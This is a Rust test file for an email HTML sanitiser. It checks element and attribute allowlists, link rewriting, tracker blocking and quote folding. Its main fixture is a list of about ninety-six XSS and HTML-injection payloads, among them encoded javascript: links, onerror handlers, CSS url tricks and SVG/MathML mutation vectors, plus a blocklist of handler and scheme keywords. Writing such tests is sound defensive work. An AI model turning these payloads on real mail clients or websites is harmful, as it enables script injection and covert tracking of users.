//! Attacks by HTML mail: whatever comes in, only what is allowed goes out.

use proptest::prelude::*;

use super::token::{Token, Tokens, decoded};
use super::{Pictures, RemoteImages, Wording, safe};

const WORDING: Wording<'static> = Wording {
    quoted: "quoted",
    signature: "signature",
    blocked_image: "blocked",
};

struct One;

impl Pictures for One {
    fn data(&mut self, content_id: &str) -> Option<String> {
        (content_id == "own").then(|| "data:image/png;base64,AAAA".to_owned())
    }
    fn again(&mut self, _: &str) -> bool {
        true
    }
}

pub(super) fn cleaned(html: &str, remote: RemoteImages) -> String {
    safe(html, remote, WORDING, &mut One).map_or_else(|_| String::new(), |safe| safe.html)
}

const ELEMENTS: [&str; 44] = [
    "p",
    "div",
    "span",
    "br",
    "hr",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "b",
    "i",
    "u",
    "em",
    "strong",
    "small",
    "sub",
    "sup",
    "a",
    "img",
    "ul",
    "ol",
    "li",
    "dl",
    "dt",
    "dd",
    "table",
    "thead",
    "tbody",
    "tfoot",
    "tr",
    "td",
    "th",
    "caption",
    "colgroup",
    "col",
    "blockquote",
    "pre",
    "code",
    "font",
    "center",
    "details",
    "summary",
];

const ATTRIBUTES: [&str; 26] = [
    "style",
    "title",
    "dir",
    "lang",
    "align",
    "valign",
    "width",
    "height",
    "border",
    "bgcolor",
    "color",
    "face",
    "size",
    "cellpadding",
    "cellspacing",
    "colspan",
    "rowspan",
    "start",
    "type",
    "nowrap",
    "href",
    "src",
    "alt",
    "data-blocked",
    "target",
    "rel",
];

/// What is wrong with markup that should be safe, if anything.
pub(super) fn wrong(html: &str, remote: RemoteImages) -> Option<String> {
    for token in Tokens::of(html) {
        let Token::Open(tag) = token else { continue };
        if !ELEMENTS.contains(&tag.name.as_ref()) {
            return Some(format!("element {}", tag.name));
        }
        for (name, value) in tag.attributes {
            if !ATTRIBUTES.contains(&name) {
                return Some(format!("attribute {name}"));
            }
            let value = decoded(value).to_lowercase();
            let fits = match name {
                "href" => ["http://", "https://", "mailto:", "tel:"]
                    .iter()
                    .any(|scheme| value.starts_with(scheme)),
                "src" if value.starts_with("http") => remote == RemoteImages::Show,
                "src" => value == "data:image/png;base64,aaaa",
                "style" => ![
                    "url",
                    "\\",
                    "expression",
                    "position",
                    "var(",
                    "image",
                    "@",
                    "-moz",
                ]
                .iter()
                .any(|word| value.contains(word)),
                _ => true,
            };
            if !fits {
                return Some(format!("{name}={value}"));
            }
        }
    }
    let lower = html.to_lowercase();
    [
        "<script", "<svg", "<style", "<math", "<iframe", "<!--", "<form", "<base", "<meta",
    ]
    .iter()
    .find(|word| lower.contains(**word))
    .map(|word| (*word).to_owned())
}

const VECTORS: [&str; 96] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<body onload=alert(1)>x",
    "<div onmouseover=\"alert(1)\">x</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<a href=\"/logout\">x</a>",
    "<a href=\"//x.example/\">x</a>",
    "<a href=\"\\\\x.example\\\">x</a>",
    "<a href=\"?a=b\">x</a>",
    "<a href=\"http:relative\">x</a>",
    "<a href=\"blob:http://x.example/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<iframe src=\"http://x.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"data:text/html,x\"></object>",
    "<embed src=\"http://x.example/x.swf\">",
    "<form action=\"http://x.example\"><input name=p><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<meta http-equiv=refresh content=\"0;url=http://x.example\">",
    "<base href=\"http://x.example/\"><a href=x>x</a>",
    "<link rel=stylesheet href=\"http://x.example/x.css\">",
    "<link rel=dns-prefetch href=\"//x.example\">",
    "<style>@import 'http://x.example';</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<div style=\"background:url(http://x.example/x)\">x</div>",
    "<div style=\"background-image:url('http://x.example/x')\">x</div>",
    "<div style=\"background:\\75\\72\\6c(http://x.example)\">x</div>",
    "<div style=\"background:u/**/rl(http://x.example)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"behavior:url(x.htc)\">x</div>",
    "<div style=\"-moz-binding:url(x)\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<div style=\"color:var(--x);--x:url(http://x.example)\">x</div>",
    "<div style=\"font-family:'x;background:url(http://x.example)'\">x</div>",
    "<div style='border-image:url(http://x.example)'>x</div>",
    "<body background=\"http://x.example/x\">x</body>",
    "<table background=\"http://x.example/x\"><tr><td background=\"x\">y</table>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg/>#x\"></use></svg>",
    "<svg><animate attributeName =href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><feImage href=\"http://x.example\"/></svg>",
    "<svg></p><style><g title=\"</style><img src onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
    "<video src=http://x.example/x poster=http://x.example/y></video><audio src=//x.example>",
    "<img srcset=\"http://x.example/a 1x\" src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img src=\"cid:nosuch\"><img src=\"cid:0\"><img src=\"cid:1\">",
    "<img src=\"data:text/html,x\"><img src=\"DATA:image/png;base64,AAAA\">",
    "<p id=x name=y class=z accesskey=a tabindex=1 contenteditable draggable=true>x</p>",
    "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
    "<a href=\"http://x.example/\" ping=\"http://y.example\" download target=_top rel=opener>x</a>",
    "<style><img src=x onerror=alert(1)>",
    "<style>a{}<script>alert(1)</script>",
    "<title><script>alert(1)",
    "<textarea><img src=x onerror=alert(1)>",
    "<xmp><svg onload=alert(1)>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)>",
    "<svg><svg></svg><a href=javascript:alert(1)>x</a>",
    "<math><mtext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script>",
    "<select><iframe src=javascript:alert(1)>",
    "<iframe><p onclick=alert(1)>x",
    "<!-- <img src=x onerror=alert(1)>",
    "<!--[if mso]><script>alert(1)</script>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)><img src=x onerror=alert(1)>",
    "<script>a}<img src=x onerror=alert(1)>",
    "<a href=\"https://bank.example@evil.example/\">x</a>",
    "<a href=\"https://a@/javascript:alert(1)\">x</a>",
];

#[test]
fn attacks_come_to_nothing() {
    for vector in VECTORS {
        for remote in [RemoteImages::Block, RemoteImages::Show] {
            let html = cleaned(vector, remote);
            assert_eq!(wrong(&html, remote), None, "{vector}\n=> {html}");
            let lower = html.to_lowercase();
            for word in [
                "onerror=",
                "onload=",
                "javascript:",
                "vbscript:",
                "data:text",
            ] {
                let in_tag = Tokens::of(&lower).any(|token| match token {
                    Token::Open(mut tag) => tag.attributes.any(|(name, value)| {
                        format!("{name}={value}").contains(word) && name != "title"
                    }),
                    _ => false,
                });
                assert!(!in_tag, "{word} in {html}");
            }
        }
    }
}

#[test]
fn what_is_harmless_stays() {
    let html = cleaned(
        "<p style=\"color:#333;margin:0\">Hi <b>you</b></p><a href=\"https://dom.example/a?b=1&amp;c=2\">x</a><table width=\"100%\" cellpadding=0><tr><td bgcolor=#eee>y</td></tr></table><img src=cid:own alt=logo width=10>",
        RemoteImages::Block,
    );
    for part in [
        "<p style=\"color:#333;margin:0\">Hi <b>you</b></p>",
        "href=\"https://dom.example/a?b=1&amp;c=2\"",
        "target=\"_blank\"",
        "rel=\"noopener noreferrer nofollow\"",
        "title=\"dom.example\"",
        "<td bgcolor=\"#eee\">y</td>",
        "src=\"data:image/png;base64,AAAA\"",
        "alt=\"logo\"",
    ] {
        assert!(html.contains(part), "{part} is not in {html}");
    }
}

#[test]
fn a_user_name_is_no_part_of_a_link() {
    let html = cleaned(
        "<a href='https://bank.example@evil.example/x' title='bank.example'>bank</a>",
        RemoteImages::Block,
    );
    assert!(
        html.contains("href=\"https://evil.example/x\" title=\"evil.example\""),
        "{html}"
    );
}

#[test]
fn remote_pictures_and_trackers() {
    let html = "x<img src=https://pics.example/a.png alt=Dom><img src=https://T.example/o.gif width=1 height=1><img src=http://u.example/o style='display:none'><div style='display:none'><img src=http://v.example/o></div>";
    let blocked = safe(html, RemoteImages::Block, WORDING, &mut One).unwrap();
    assert_eq!(blocked.blocked_images, 1);
    assert_eq!(blocked.trackers, ["t.example", "u.example", "v.example"]);
    assert!(blocked.html.contains("alt=\"blocked: Dom\"") && !blocked.html.contains("src="));
    let shown = safe(html, RemoteImages::Show, WORDING, &mut One).unwrap();
    assert_eq!(shown.blocked_images, 0);
    assert!(shown.html.contains("src=\"https://pics.example/a.png\""));
    assert!(!shown.html.contains("/o"), "{}", shown.html);
}

#[test]
fn quotes_and_signatures_fold() {
    for (html, folds) in [
        (
            "<div>Tak</div><div class=gmail_quote>W dniu pisze:<blockquote>stare</blockquote></div>",
            1,
        ),
        (
            "<p>ok</p><blockquote type=cite>old<blockquote type=cite>older</blockquote></blockquote>",
            1,
        ),
        (
            "<p>ok</p><p>On 3 Mar 2026, Jan wrote:</p><blockquote>old</blockquote>",
            1,
        ),
        ("<blockquote type=cite>all there is</blockquote>", 0),
        ("<p>my words</p><blockquote>a saying</blockquote>", 0),
        (
            "<div>ok</div><div><div style='border-top:solid 1pt'><p><b>Od:</b> Jan<br><b>Wys\u{142}ano:</b> wt<br><b>Temat:</b> x</p></div><p>stare</p></div>",
            1,
        ),
        (
            "<div>ok</div><div class=gmail_quote>---------- Forwarded message ---------<br>x</div>",
            0,
        ),
        ("<div>ok<br>-- <br>Anna</div>", 1),
        (
            "<div>ok</div><div class=gmail_signature>Anna</div><div class=gmail_quote>old</div>",
            2,
        ),
        ("<details open><summary>mine</summary>x</details>", 0),
    ] {
        let shown = cleaned(html, RemoteImages::Block);
        assert_eq!(
            shown.matches("<details><summary>").count(),
            folds,
            "{html}\n=> {shown}"
        );
        assert_eq!(
            shown.matches("<details").count(),
            shown.matches("</details>").count()
        );
    }
    let shown = cleaned(
        "<div>ok</div><div><div><p><b>From:</b> Jan<br><b>Sent:</b> x<br><b>Subject:</b> x</p></div><p>old</p></div>",
        RemoteImages::Block,
    );
    assert!(
        shown.starts_with("<div>ok</div><details>") && shown.ends_with("</details>"),
        "{shown}"
    );
}

fn fragment() -> impl Strategy<Value = String> {
    let nasty = prop::sample::select(&VECTORS[..]).prop_map(str::to_owned);
    let piece = prop::sample::select(
        &[
            "<",
            ">",
            "\"",
            "'",
            "`",
            "=",
            "/",
            "<!--",
            "-->",
            "</",
            "<svg>",
            "</svg>",
            "<math>",
            "</math>",
            "<style>",
            "</style>",
            "<table>",
            "<tr>",
            "<td>",
            "</td>",
            "</table>",
            "<p>",
            "</p>",
            "<b x=1>",
            "</b>",
            "<a href=",
            "javascript:",
            " onerror=x ",
            "&lt;",
            "&#0;",
            "\0",
            "<img src=",
            "cid:own",
            "http://x.example",
            "<select>",
            "<template>",
            "<mtext>",
            "<annotation-xml encoding=text/html>",
            "<title>",
            "</title>",
            "<noscript>",
            "<plaintext>",
            "<li>",
            "<details>",
            " style=\"",
            "url(",
            "<foreignObject>",
            "<desc>",
            "<font color=x>",
        ][..],
    )
    .prop_map(str::to_owned);
    prop_oneof![1 => nasty, 4 => piece, 1 => "\\PC{0,12}"]
}

/// Whether any tag has an attribute that is a handler.
pub(super) fn has_handler(html: &str) -> bool {
    Tokens::of(html).any(|token| match token {
        Token::Open(mut tag) => tag
            .attributes
            .any(|(name, _)| name.to_lowercase().starts_with("on")),
        _ => false,
    })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(600))]

    #[test]
    fn nothing_gets_through(parts in prop::collection::vec(fragment(), 0..40)) {
        let html = parts.concat();
        for remote in [RemoteImages::Block, RemoteImages::Show] {
            let out = cleaned(&html, remote);
            prop_assert_eq!(wrong(&out, remote), None, "{}\n=> {}", html, out);
            prop_assert!(!has_handler(&out));
            // Read once more by the sanitiser's own rules, nothing is left to take away.
            let again = cleaned(&out, remote);
            prop_assert_eq!(wrong(&again, remote), None);
        }
    }

    #[test]
    fn any_text_is_read(html in "\\PC{0,400}") {
        let _ = super::text(&html, 1000);
        let _ = super::content_ids(&html);
    }
}
